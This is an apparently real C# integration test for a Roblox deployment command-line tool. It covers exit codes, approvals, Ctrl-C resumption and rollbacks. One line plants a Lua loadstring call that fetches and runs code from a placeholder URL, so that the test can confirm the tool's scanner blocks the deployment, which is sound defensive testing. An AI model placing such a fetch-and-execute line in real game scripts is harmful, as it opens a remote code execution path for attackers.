using System.Diagnostics;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using ToolboxAI.Tests.Support;
using ToolboxAI.Tools;

namespace ToolboxAI.Tests.Local.Deployments;

/// <summary>The command line against the running application: exit codes, JSON, Ctrl-C. The project is the guide's.</summary>
public sealed partial class ToolboxTests : IAsyncLifetime
{
    private static readonly TimeSpan Limit = TimeSpan.FromMinutes(3);
    private readonly ApplicationOnServices application = new();
    private readonly string folder = Directory.CreateTempSubdirectory("toolboxai-tool-").FullName;

    public async ValueTask InitializeAsync()
    {
        Assert.SkipUnless(OperatingSystem.IsLinux() || OperatingSystem.IsMacOS(), "Ctrl-C is sent as a signal.");
        await application.InitializeAsync();
        var guide = await File.ReadAllTextAsync(Path.Combine(Repository.Root, "docs", "guides", "roblox-deployments.md"));
        using var shell = Process.Start(new ProcessStartInfo("sh", ["-c", $"set -e\n{Project().Match(guide).Groups["lines"].Value}"]) { WorkingDirectory = folder })!;
        await shell.WaitForExitAsync();
    }

    public async ValueTask DisposeAsync()
    {
        await application.DisposeAsync();
        Directory.Delete(folder, recursive: true);
    }

    [Fact]
    public async Task Commands_say_by_their_exit_code_how_they_ended_and_go_on_after_Ctrl_C()
    {
        // Before anything was deployed.
        await Ends(ExitCodes.Usage, ["status", "treasure-hunt"], "There is no such deployment.");
        await Ends(ExitCodes.Usage, ["rollback", "treasure-hunt"], "Nothing was ever deployed to treasure-hunt on production.");
        await Ends(ExitCodes.Usage, ["plan", "--manifest", "nowhere.yml"], "There is no nowhere.yml.");
        await Ends(ExitCodes.Usage, ["plan", "--environment", "moon"], "There is no environment 'moon'");
        await Ends(ExitCodes.Failed, ["plan", "--server", "http://127.0.0.1:1"], "does not answer");
        await Ends(ExitCodes.Usage, ["plan"], "The API key is not valid", key: "tbx_wrong");
        await Ends(ExitCodes.Usage, ["plan"], "Set TOOLBOX_KEY to an API key.", key: "");
        await Ends(ExitCodes.Usage, ["frobnicate"], "frobnicate");
        var scan = JsonNode.Parse(await Ends(ExitCodes.Ok, ["scan", "--json"]))!;
        Assert.Equal("clean", (string?)scan["places/lobby.rbxlx"]!["verdict"]);
        var plan = JsonNode.Parse(await Ends(ExitCodes.Ok, ["plan", "--json", "--commit", "4f2a91c"]))!;
        Assert.Equal(("1.0.0", 64), ((string?)plan["version"], ((string?)plan["planHash"])!.Length));
        await Ends(ExitCodes.Different, ["diff"], "+ place lobby");

        // Until it waits; approved; taken up again and interrupted while production is watched, which takes minutes; taken up until it is live.
        await Moving(ExitCodes.Waiting, ["deploy"], "has started");
        var id = (string)(await application.Call(HttpMethod.Get, "/api/v1/deployments"))!["items"]!.AsArray().Single()!["id"]!;
        await application.Call(HttpMethod.Post, $"/api/v1/deployments/{id}/approve", key: "tbx_local_approver_key");
        var interrupted = Start(["deploy"]);
        await ApplicationOnServices.Until(() => Task.FromResult(interrupted.Said.Contains("is under way", StringComparison.Ordinal)), Limit, () => interrupted.Said);
        await TestProcess.SignalAsync(interrupted.Process.Id, "INT");
        Assert.Equal(ExitCodes.Interrupted, await interrupted.Exit());
        Assert.Contains("the same command takes it up again", interrupted.Said, StringComparison.Ordinal);
        Assert.Contains("Version 1.0.0 is complete.", await Moving(ExitCodes.Ok, ["deploy"], "is under way"), StringComparison.Ordinal);
        Assert.Equal("1.0.0", (string?)JsonNode.Parse(await Ends(ExitCodes.Ok, ["status", "treasure-hunt", "--json"]))!["version"]);
        await Ends(ExitCodes.Ok, ["diff"], "Nothing would change.");
        await Ends(ExitCodes.Ok, ["deploy"], "Nothing would change.");

        // What must not go live, and what has nowhere to go back to.
        await Ends(ExitCodes.Usage, ["rollback", "treasure-hunt", "--to", "9.9.9"], "There is no complete version 9.9.9.");
        await Ends(ExitCodes.Failed, ["rollback", "treasure-hunt"], "No earlier version was ever complete.");
        var lobby = Path.Combine(folder, "places", "lobby.rbxlx");
        await File.WriteAllTextAsync(lobby, (await File.ReadAllTextAsync(lobby)).Replace("print(chest)", "loadstring(game:GetService(\"HttpService\"):GetAsync(\"https://example.com/x\"))()"));
        await Ends(ExitCodes.Refused, ["scan"], "refuse");
        await Ends(ExitCodes.Refused, ["plan"], "Blocked");
        await Ends(ExitCodes.Refused, ["deploy"], "The plan is blocked");
    }

    /// <summary>Runs a command to its end; what it printed, errors included unless it printed JSON.</summary>
    private async Task<string> Ends(int code, string[] arguments, string says = "", string key = "tbx_local_development_key")
    {
        var command = Start(arguments, key);
        var ended = await command.Exit();
        Assert.True(ended == code && command.Said.Contains(says, StringComparison.Ordinal), $"toolbox {string.Join(' ', arguments)} ended with {ended}: {command.Said}");
        return command.Said;
    }

    /// <summary>Runs a command; once it has said something, time passes until its end.</summary>
    private async Task<string> Moving(int code, string[] arguments, string says)
    {
        var command = Start(arguments);
        var ended = command.Exit();
        await ApplicationOnServices.Until(() => Task.FromResult(command.Said.Contains(says, StringComparison.Ordinal)), Limit, () => command.Said);
        while (!ended.IsCompleted)
        {
            await application.Advance("PT20S");
        }

        Assert.True(await ended == code, $"toolbox {string.Join(' ', arguments)} ended with {await ended}: {command.Said}");
        return command.Said;
    }

    private Command Start(string[] arguments, string key = "tbx_local_development_key")
    {
        var start = BuiltProgram.Start("toolbox", arguments);
        start.WorkingDirectory = folder;
        start.RedirectStandardOutput = true;
        start.RedirectStandardError = true;
        start.Environment["TOOLBOX_SERVER"] = application.Http.BaseAddress!.ToString();
        start.Environment["TOOLBOX_KEY"] = key;
        start.Environment["COLUMNS"] = "300";
        if (OperatingSystem.IsLinux())
        {
            // What a shell runs in the background ignores Ctrl-C, and so do its children: the command gets it back.
            start.ArgumentList.Insert(0, start.FileName);
            start.ArgumentList.Insert(0, "--default-signal=INT");
            start.FileName = "env";
        }

        return new(start);
    }

    /// <summary>A running command and what it has said.</summary>
    private sealed class Command
    {
        private readonly System.Text.StringBuilder said = new();

        public Command(ProcessStartInfo start)
        {
            Process = new() { StartInfo = start };
            Process.OutputDataReceived += (_, line) => Hear(line.Data);
            Process.ErrorDataReceived += (_, line) => Hear(line.Data);
            Process.Start();
            Process.BeginOutputReadLine();
            Process.BeginErrorReadLine();
        }

        public Process Process { get; }

        public string Said
        {
            get
            {
                lock (said)
                {
                    return said.ToString();
                }
            }
        }

        public async Task<int> Exit()
        {
            using var limit = new CancellationTokenSource(Limit);
            await Process.WaitForExitAsync(limit.Token);
            return Process.ExitCode;
        }

        private void Hear(string? line)
        {
            lock (said)
            {
                said.AppendLine(line);
            }
        }
    }

    [GeneratedRegex(@"^## The manifest\n.*?^```sh\n(?<lines>.*?)^```", RegexOptions.Singleline | RegexOptions.Multiline, matchTimeoutMilliseconds: 1000)]
    private static partial Regex Project();
}
